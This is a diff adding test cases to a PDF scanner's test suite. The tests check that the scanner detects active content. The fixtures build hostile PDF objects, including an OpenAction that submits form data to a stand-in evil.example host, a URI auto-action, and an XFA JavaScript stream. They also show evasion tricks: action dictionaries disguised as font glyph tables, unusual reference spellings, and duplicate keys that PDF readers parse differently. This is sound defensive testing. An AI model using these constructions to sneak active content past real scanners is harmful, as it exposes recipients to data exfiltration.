@@ -257,3 +257,68 @@ def test_a_file_specification_keeps_pdfs_server_form(policy: Policy) -> None:
 def test_a_base_uri_that_is_a_path(policy: Policy) -> None:
     objects = {1: b"<< /Type /Catalog /Pages 2 0 R /URI << /Base (/docs/manual/) >> >>"}
     assert found(scan(pdf(objects), policy)) == set()
+
+
+# -- found in review: each way a first version let an action through ---------------------------
+
+_ENCODING = b"<< /Type /Encoding /Differences [9 /A9] >>"
+_SUBMIT = b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/s) >> /Flags 4 >>"
+_XFA = (
+    b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><template><script "
+    b"contentType='application/x-javascript'>app.alert(1)</script></template></xdp:xdp>"
+)
+
+
+def _xfa_form_as_glyph_table(reference: bytes) -> bytes:
+    """A form whose dictionary is also a font's /CharProcs (every value a reference)."""
+    return pdf({
+        1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm %s >>" % reference,
+        5: FONT % (b"13 0 R", b"7 0 R"), 6: GLYPH, 7: _ENCODING,
+        13: b"<< /Fields 14 0 R /XFA 15 0 R >>", 14: b"[]",
+        15: b"<< /Length %d >>\nstream\n%s\nendstream" % (len(_XFA), _XFA),
+    })  # fmt: skip
+
+
+def _annotation_as_glyph_table(reference: bytes) -> bytes:
+    """A link whose /AA opens a URI, its dictionary also a font's /CharProcs."""
+    return pdf({
+        3: PAGE % (b" /Annots [%s]" % reference), 5: FONT % (b"8 0 R", b"7 0 R"), 6: GLYPH,
+        7: _ENCODING, 8: b"<< /Type 12 0 R /Subtype 13 0 R /Rect 10 0 R /AA 9 0 R >>",
+        9: b"<< /PO 11 0 R >>", 10: b"[0 0 9 9]", 11: URI_ACTION, 12: b"/Annot", 13: b"/Link",
+    })  # fmt: skip
+
+
+def _catalog_as_glyph_table(root: bytes) -> bytes:
+    """A catalog whose /OpenAction submits the form, its dictionary also a /CharProcs."""
+    return pdf({
+        1: b"<< /Type 12 0 R /Pages 2 0 R /OpenAction 11 0 R >>",
+        5: FONT % (b"1 0 R", b"7 0 R"), 6: GLYPH, 7: _ENCODING, 11: _SUBMIT, 12: b"/Catalog",
+    }).replace(b"/Root 1 0 R", b"/Root " + root)  # fmt: skip
+
+
+@pytest.mark.parametrize("spelling", [b"%d 0 R", b"0%d 0 R", b"%d 00 R", b"%d\x0b0 R",
+                                      b"%d 0 %%c\nR", b"%d 1 R"])  # fmt: skip
+def test_a_table_referred_to_in_any_spelling_is_judged(spelling: bytes, policy: Policy) -> None:
+    """Every reference a reader may take counts in the census (leading zeros, any generation,
+    a comment or vertical tab between the tokens): an object used otherwise is no table."""
+    assert codes(scan(_xfa_form_as_glyph_table(spelling % 13), policy)) == {"PDF_XFA"}
+    assert codes(scan(_annotation_as_glyph_table(spelling % 8), policy)) == {"PDF_AUTO_ACTION"}
+    # (a root pypdf cannot resolve, through a comment or another generation, is CORRUPT)
+    found_open = codes(scan(_catalog_as_glyph_table(spelling % 1), policy))
+    assert found_open in ({"PDF_AUTO_ACTION"}, {"CORRUPT"}), found_open
+
+
+@pytest.mark.parametrize(
+    "triggers",
+    [
+        b"<< /O << /S /GoTo /D [3 0 R /Fit] /S /URI /URI (https://evil.example/b) >> >>",
+        b"<< /O << /S /Named /N /NextPage /N /Print >> >>",
+        b"<< /O << /S (/GoTo) /D [3 0 R /Fit] >> >>",
+    ],
+    ids=["type-written-twice", "name-written-twice", "type-as-a-string"],
+)
+def test_an_action_readers_may_take_differently_is_not_inert(
+    triggers: bytes, policy: Policy
+) -> None:
+    # pypdf keeps a key's first definition, pdf.js and MuPDF its last
+    assert codes(scan(pdf({3: PAGE % (b" /AA " + triggers)}), policy)) == {"PDF_AUTO_ACTION"}
